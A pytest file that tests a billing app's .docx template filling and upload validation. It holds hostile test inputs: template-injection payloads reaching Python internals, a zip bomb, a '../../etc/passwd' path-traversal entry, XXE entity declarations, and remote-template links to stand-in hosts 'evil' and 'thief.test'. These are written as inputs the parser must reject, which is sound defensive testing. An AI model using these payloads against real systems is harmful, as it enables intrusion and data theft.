"""Own papers as files of Word: places filled, loops repeated, nothing run and nothing fetched."""

import time
import zipfile
from decimal import Decimal
from io import BytesIO
from xml.etree import ElementTree as ET

import pytest

from voronka.billing import services
from voronka.billing.models import Document
from voronka.billing.queries.papers import docx_of, form_of
from voronka.billing.rules.docx import DocxProblem, as_html, fill_docx, open_docx, without_marks
from voronka.billing.services import DocumentDraft, LineDraft
from voronka.billing.services.printing import to_pdf
from voronka.billing.testing import DAY, NOW
from voronka.kit.errors import Invalid

SPACE = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:w14="urn:w14" w14:x="1"'
RELS = (
    '<Relationships xmlns="r"><Relationship Id="1" Type="http://x/relationships/{}" Target="{}"{}/></Relationships>'
)
OUT = ' TargetMode="External"'


def run(text, bold=False):
    mark = "<w:rPr><w:b/></w:rPr>" if bold else ""
    return f"<w:r>{mark}<w:t>{text}</w:t></w:r>"


def paragraph(*runs, style=""):
    named = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    return f"<w:p>{named}{''.join(runs)}</w:p>"


def table(*rows):
    cells = ("".join(f"<w:tc>{paragraph(run(cell))}</w:tc>" for cell in row) for row in rows)
    return f"<w:tbl>{''.join(f'<w:tr>{row}</w:tr>' for row in cells)}</w:tbl>"


def docx(*blocks, **more):
    parts = {
        "[Content_Types].xml": "<Types/>",
        "word/document.xml": f"<w:document {SPACE}><w:body>{''.join(blocks)}</w:body></w:document>",
    }
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in (parts | more).items():
            archive.writestr(name, text)
    return out.getvalue()


LETTER = docx(
    paragraph(run("Письмо № {"), run("{ num", bold=True), run("ber }"), run("} и дальше"), style="Heading1"),
    paragraph(run("Кому: {{ buyer.name }}, "), run("{% if sum > 5 %}много{% else %}мало{% endif %}", bold=True)),
    table(
        ["Товар", "Сумма"],
        ["{% for line in lines %}{{ line.name }}", "{{ line.sum | money: &quot;RUB&quot; }}{% endfor %}"],
    ),
)


def texts_of(body):
    with zipfile.ZipFile(BytesIO(body)) as archive:
        xml = archive.read("word/document.xml")
    space = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    root = ET.fromstring(xml)
    rows = ["|".join(one.text or "" for one in row.iter(f"{space}t")) for row in root.iter(f"{space}tr")]
    return ["".join(one.text or "" for one in part.iter(f"{space}t")) for part in root.iter(f"{space}p")], rows, xml


def make(inside, file=LETTER, names=("Стол <дуб> & «ясень»", "Стул")):
    text = services.save_template(actor=inside.owner, name="Письмо", file=file, now=NOW)
    lines = [LineDraft(name, price=Decimal(1500)) for name in names]
    draft = DocumentDraft("own", DAY, lines, title="Письмо", template_id=text.public_id)
    return text, services.issue_new(actor=inside.owner, draft=draft, now=NOW)


def test_places_that_word_has_cut_are_filled_and_rows_are_repeated(inside):
    _text, row = make(inside)
    body = docx_of(inside.owner, row)
    said, rows, xml = texts_of(body)
    assert said[0] == f"Письмо № {row.number} и дальше"
    assert "много" in said[1]
    assert [one.split("|")[0] for one in rows] == ["Товар", "Стол <дуб> & «ясень»", "Стул"]
    assert "1 500" in rows[1].replace("\xa0", " ").replace("\u202f", " ")
    assert b"w14:x" in xml  # what Word wrote beside stays as it was
    assert "voronka" not in xml.decode()


def test_it_is_looked_at_as_pdf_too(inside):
    _text, row = make(inside)
    html = as_html(docx_of(inside.owner, row))
    assert html.startswith(f"<h1>Письмо № <b>{row.number}</b> и дальше</h1>") or "<h1>Письмо" in html
    assert "Стол &lt;дуб&gt; &amp; «ясень»" in html
    assert to_pdf(form_of(inside.owner, row), day=row.day).startswith(b"%PDF")


def test_another_file_leaves_issued_papers_alone(inside):
    text, row = make(inside)
    services.save_template(
        actor=inside.owner, name="Письмо", file=docx(paragraph(run("Иначе"))), public_id=text.public_id, now=NOW
    )
    assert "Письмо №" in texts_of(docx_of(inside.owner, Document.objects.get(pk=row.pk)))[0][0]
    services.save_template(actor=inside.owner, name="Имя", public_id=text.public_id)  # a new name keeps the file
    text.refresh_from_db()
    assert text.file


@pytest.mark.parametrize(
    "place",
    [
        "{{ ''.__class__.__mro__ }}", "{{ number.__class__ }}", "{{ cycler.__init__.__globals__ }}",
        "{% include 'x' %}", "{% import os %}", "{{ lines | safe }}", "{{ nobody }}", "{% for one in lines %}",
        "{{ number",
    ],
)  # fmt: skip
def test_code_and_unknown_places_are_refused_when_it_is_uploaded(inside, place):
    if place == "{{ number":  # no place at all: it stays as it is typed
        assert open_docx(docx(paragraph(run(place)))).source
        return
    with pytest.raises(Invalid) as caught:
        services.save_template(actor=inside.owner, name="x", file=docx(paragraph(run(place))), now=NOW)
    assert "file" in caught.value.fields


def bomb():
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b" " * (41 * 1024 * 1024))
    return out.getvalue()


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (b"", "not_docx"),
        (b"PK\x03\x04junk", "not_docx"),
        (b"x" * (5 * 1024 * 1024 + 1), "too_big"),
        (docx(**{"word/vbaProject.bin": "x"}), "running"),
        (docx(**{"word/embeddings/oleObject1.bin": "x"}), "running"),
        (docx(**{"word/_rels/settings.xml.rels": RELS.format("attachedTemplate", "http://evil/x", OUT)}), "outer"),
        (docx(**{"../../etc/passwd": "x"}), "not_docx"),
        (docx(**{"word/document.xml": "<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"}), "not_docx"),
        (docx(**{"word/document.xml": "<w:document"}), "not_docx"),
        (docx(**{"word/header1.xml": "<a" * 9999}), "not_docx"),
    ],
)
def test_files_that_are_none_or_hold_what_no_paper_needs(body, code):
    with pytest.raises(DocxProblem) as caught:
        open_docx(body)
    assert caught.value.code == code


def test_a_bomb_is_not_unpacked():
    with pytest.raises(DocxProblem) as caught:
        open_docx(bomb())
    assert caught.value.code == "too_big"


def test_links_of_people_may_lead_out():
    rels = RELS.format("hyperlink", "https://example.com", OUT)
    assert open_docx(docx(paragraph(run("x")), **{"word/_rels/document.xml.rels": rels}))


def test_values_cannot_bring_pieces_or_signs_that_xml_refuses():
    assert without_marks("а\ue0001\ue001\x00\x1bб\n") == "а1б\n"
    opened = open_docx(docx(paragraph(run("{{ x }}"))))
    with pytest.raises(DocxProblem):
        fill_docx(opened, lambda _source: "<br>")


RELATIONS = "word/_rels/document.xml.rels"
TEMPLATE = (
    '<Relationships xmlns="r"><Relationship Id="1" Type="http://x/relationships/attachedTemplate"'
    ' Target="http://thief.test/a.dotm" TargetMode="{}"/></Relationships>'
)


@pytest.mark.parametrize(
    ("name", "mode"), [(RELATIONS, "&#69;xternal"), (RELATIONS, " External"), (RELATIONS.upper(), "External")]
)
def test_what_is_fetched_from_elsewhere_is_found_however_it_is_written(name, mode):
    with pytest.raises(DocxProblem) as refused:
        open_docx(docx(paragraph(run("Договор")), **{name: TEMPLATE.format(mode)}))
    assert refused.value.code == "outer"


def test_a_file_of_nothing_but_openings_costs_no_more_than_its_length():
    began = time.process_time()
    opened = open_docx(docx(paragraph(run("{{" * 20_000 + "{% for " * 20_000))))
    assert time.process_time() - began < 2  # it was half a minute
    assert len(opened.sources["word/document.xml"]) < 20


def test_two_bytes_a_sign_hide_no_entities():
    told = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e "e">]><w:document {SPACE}>&e;</w:document>'
    with pytest.raises(DocxProblem) as refused:
        open_docx(docx(**{"word/header1.xml": told.encode("utf-16-le")}))
    assert refused.value.code == "not_docx"


def test_a_file_packed_as_word_never_packs_is_none():
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("word/document.xml", f"<w:document {SPACE}/>" + " " * 2_000)
    body = bytearray(out.getvalue())
    body[70:90] = b"\xff" * 20
    with pytest.raises(DocxProblem):
        open_docx(bytes(body))
